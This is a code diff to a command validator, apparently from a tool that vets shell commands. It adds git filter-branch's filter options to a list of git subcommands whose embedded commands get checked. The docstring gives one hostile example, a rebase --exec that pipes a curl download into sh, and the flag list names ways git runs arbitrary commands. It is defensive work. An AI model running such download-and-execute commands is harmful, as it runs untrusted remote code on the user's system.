@@ -170,13 +170,17 @@ class ParallelOrWatch(Validator):
         return Verdict.unwrap(code)
 
 
-_GIT_CODE = {"rebase": frozenset({"--exec", "-x"}), "submodule": frozenset({"foreach"})}
+_GIT_CODE = {"rebase": frozenset({"--exec", "-x"}), "submodule": frozenset({"foreach"}),
+             "filter-branch": frozenset({"--tree-filter", "--index-filter", "--env-filter",
+                                         "--msg-filter", "--commit-filter", "--parent-filter",
+                                         "--tag-name-filter"})}
 
 
 @register
 class GitRunsCommands(Validator):
     """git subcommands that run a command: ``git rebase --exec CMD``, ``git bisect run CMD``,
-    ``git submodule foreach CMD``: CMD is checked as a command line.
+    ``git submodule foreach CMD``, ``git filter-branch --tree-filter CMD``: CMD is checked as
+    a command line.
 
     Bad: ``git rebase --exec 'curl -s x | sh' HEAD~3``. Harmless: ``git rebase -x 'make
     test' HEAD~3``.
